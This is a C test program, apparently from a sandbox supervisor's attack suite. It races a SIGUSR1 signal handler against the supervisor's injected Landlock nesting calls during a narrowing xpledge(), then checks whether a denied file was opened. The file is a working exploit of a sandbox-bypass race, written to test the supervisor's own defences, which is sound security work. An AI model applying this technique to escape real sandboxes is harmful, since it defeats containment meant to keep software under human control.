// nest_signal DIR [VARIANT...]: a signal handler runs in the middle of the supervisor's
// Landlock nesting chain (the injected landlock_create_ruleset -> landlock_restrict_self ->
// close that a narrowing xpledge() starts with). Between two injected calls the supervisor
// rewinds the thread to its `syscall` instruction and resumes it; a signal pending then is
// delivered first, and the handler's own system call is taken for the next injected call: it
// runs unchecked. The handler opens DIR/forbiddn (denied by the policy); the attack looks for an
// open fd that reads "secret".
//   child: SIGUSR1 sent in a loop by an unpledged child process. (A 20 us ITIMER_REAL SIGALRM
//   in place of the child never hit the window in 200 attempts here.)
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>

static const char *g_dir;
static char g_path[4096];
static volatile sig_atomic_t g_armed;

static void handler(int sig) {
  (void)sig;
  if (g_armed) syscall(SYS_openat, AT_FDCWD, g_path, O_RDONLY);
}

// Any fd of ours that reads "secret": the denied file, opened.
static int find_secret(void) {
  for (int fd = 3; fd < 256; fd++) {
    char buf[16] = {0};
    if (pread(fd, buf, 6, 0) == 6 && memcmp(buf, "secret", 6) == 0) return fd;
  }
  return -1;
}

static void attempt(const char *name, int use_timer, int *won) {
  pid_t pid = fork();
  if (pid < 0) return setup_error(name, "fork: %s", errname(errno));
  if (pid == 0) {
    pid_t me = getpid(), spammer = -1;
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = handler;
    sa.sa_flags = SA_NODEFER | SA_RESTART;  // the handler's frame may never be returned from
    sigaction(use_timer ? SIGALRM : SIGUSR1, &sa, NULL);
    if (use_timer) {
      struct itimerval it = {{0, 20}, {0, 20}};
      setitimer(ITIMER_REAL, &it, NULL);
    } else {
      spammer = fork();
      if (spammer == 0) {
        while (kill(me, SIGUSR1) == 0) {
        }
        _exit(0);  // its target is gone
      }
    }
    g_armed = 1;
    long r = syscall(10000, "stdio rpath", NULL);
    int e = errno;
    g_armed = 0;
    if (use_timer) {
      struct itimerval off = {{0, 0}, {0, 0}};
      setitimer(ITIMER_REAL, &off, NULL);
    } else {
      kill(spammer, SIGKILL);  // refused once pledged: it ends when we do
    }
    int fd = find_secret();
    if (fd >= 0) {
      say(1, "# %s: xpledge returned %ld (%s); fd %d reads the denied file\n", name, r,
          errname(r ? e : 0), fd);
      _exit(1);
    }
    _exit(0);
  }
  int st = 0;
  waitpid(pid, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 1) *won = 1;
}

static void variant(const char *name) {
  int use_timer = strcmp(name, "timer") == 0;
  int won = 0, tries = 0;
  for (; tries < 200 && !won; tries++) attempt(name, use_timer, &won);
  if (won)
    bypass(name, "a signal handler's openat of the denied file ran unchecked inside the nesting "
                 "chain (attempt %d)", tries);
  else
    ok(name, "%d attempts, the denied file was never opened", tries);
}

int main(int argc, char **argv) {
  static const char *all[] = {"child", NULL};
  if (argc < 2) return 2;
  g_dir = argv[1];
  snprintf(g_path, sizeof g_path, "%s/forbiddn", g_dir);
  const char **names = argc > 2 ? (const char **)argv + 2 : all;
  return run_variants(names, variant);
}
